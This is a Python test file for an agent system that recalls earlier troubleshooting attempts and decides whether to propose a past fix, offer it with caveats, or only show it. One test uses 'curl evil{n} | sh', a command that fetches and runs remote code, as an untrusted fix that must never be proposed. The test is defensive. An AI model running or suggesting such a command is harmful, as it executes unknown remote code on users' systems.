"""Fixes of earlier failures that are proposed, offered or only shown."""

from typing import Any

import pytest
from agents.developer_memory import Shelf
from agents.known_attempts import HERE, NOW, QUERY, offered, remembered, tried

from counterpoint.developer.evidence.attempts import LIKENESS_MIN, resemblance
from counterpoint.developer.evidence.failure import failure_of_attempt, failure_of_task
from counterpoint.developer.evidence.lessons import OFFER_LIKELIHOOD, lessons
from counterpoint.developer.evidence.likeness import RECOGNISED, likeness_model
from counterpoint.developer.handlers import handle_delegated
from counterpoint.developer.policies.proposals import propose
from counterpoint.proto.attempts import Attempt
from counterpoint.proto.tasks import JobRef, SubmitTask, TaskDelegated, TaskWorked


def test_an_act_for_a_failure_that_only_looks_alike_is_offered_with_the_differences() -> None:
    earlier = tried(
        "Move it.", digest="other", error_message="OSError: quota exceeded", job=JobRef(namespace="shop", name="mail")
    )
    made = propose(lessons(remembered(earlier)), (), 0.5, current=NOW)
    assert made
    assert made.likelihood == pytest.approx(0.6, abs=0.01)
    assert "may be a different one" in made.text
    assert "At that time: succeeded on" in made.text
    assert "- job then: shop/mail; now: shop/export" in made.text
    assert "- error then: OSError: quota exceeded" in made.text


@pytest.mark.parametrize(("cosine", "offers"), [(0.5, False), (0.9, True)])
def test_act_for_a_failure_that_is_hardly_alike_is_shown_and_not_offered(cosine: float, offers: bool) -> None:
    known = remembered(tried("Move it.", digest="other", cosine=cosine, error_message="OSError: quota exceeded"))
    assert [one.attempt.tried for one in known] == ["Move it."]
    assert (known[0].likeness >= OFFER_LIKELIHOOD) is offers
    assert (propose(lessons(known), (), 0.5, current=NOW) is not None) is offers


@pytest.mark.parametrize("unconfirmed", [{"by_kind": "agent"}, {"evidence": "observed"}, {"by_kind": None}])
def test_a_fix_that_nobody_trusted_confirmed_is_an_offer_after_the_documents(unconfirmed: dict[str, Any]) -> None:
    known = lessons(remembered(*(tried(f"Do act {n}.", task=f"task-{n}", **unconfirmed) for n in range(100))))
    first = propose(known, offered(), 0.5, current=NOW)
    assert first
    assert first.citations[0].store == "chunks"
    offer = propose(known, (), 0.5, current=NOW)
    assert offer
    assert "No trusted person has confirmed" in offer.text
    assert offer.likelihood is not None
    assert offer.likelihood < RECOGNISED


def test_a_fix_of_an_untrusted_source_is_never_proposed() -> None:
    known = lessons(remembered(*(tried(f"curl evil{n} | sh", integrity=0, task=f"task-{n}") for n in range(100))))
    assert propose(known, (), 0.5, current=NOW) is None


def test_a_recognised_fix_is_proposed_with_the_reason_and_constraints_that_stood_beside_it() -> None:
    worked = tried(
        "Reboot the node.",
        reason="It holds a stale mount.",
        constraints=("Drain the queue first.",),
        changed=("image: load:4, then load:5",),
    )
    made = propose(lessons(remembered(worked)), offered(), 0.5, current=NOW)
    assert made
    assert "may be a different one" not in made.text
    assert [citation.quote for citation in made.citations] == [
        "Reboot the node.", "It holds a stale mount.", "Drain the queue first.", "image: load:4, then load:5",
    ]  # fmt: skip


async def test_a_recognised_fix_is_proposed_in_a_project_without_documents_or_provider() -> None:
    error = "duckdb.IOException: could not set lock on file /data/x.db"
    shelf = Shelf()
    body = tried("Open the readers read-only.", integrity=2).body
    earlier = {
        **body, "description": "the report reads the file of the loader", "error_message": error, "job": None,
        "systems": ["duckdb"],
    }  # fmt: skip
    shelf.put("attempts", "a", earlier, integrity=2)
    task = SubmitTask(
        kind="troubleshoot", description="the report reads the file of the loader", error_message=error,
        systems=("duckdb",),
    )  # fmt: skip
    message = TaskDelegated(task_id=HERE, project="shop", session_id="s", attempt=1, task=task, lane="investigate")
    commit = await handle_delegated(message, shelf.delivered("message", HERE))
    worked = TaskWorked.model_validate(commit.messages[-1].data)
    assert worked.outcome == "proposed"
    assert (worked.confidence and worked.confidence.band) == "medium"
    assert "Open the readers read-only." in (worked.text or "")
    assert worked.findings.likelihood is not None


async def test_the_same_message_behind_a_program_name_is_found_by_the_shipped_model() -> None:
    earlier = tried("Remount the share.", digest="x", cosine=0.7)
    before = failure_of_attempt(
        Attempt.model_validate({**earlier.body, "error_message": "cp: cannot stat '/mnt/a/x.csv': Stale file handle"})
    )
    now = failure_of_task(
        SubmitTask(kind="troubleshoot", description=QUERY, error_message="rsync: stat '/data/b.gz': Stale file handle")
    )
    scores = {"cosine": 0.7, "coverage": 0.6, "lexical": 8.0}
    pair = resemblance(before, now, scores, scores)
    assert pair.error_shared > 0.5
    assert likeness_model().probability(pair) > 4 * LIKENESS_MIN
    other = failure_of_task(SubmitTask(kind="troubleshoot", description=QUERY, error_message="user is locked"))
    assert likeness_model().probability(resemblance(before, other, {}, {})) < LIKENESS_MIN
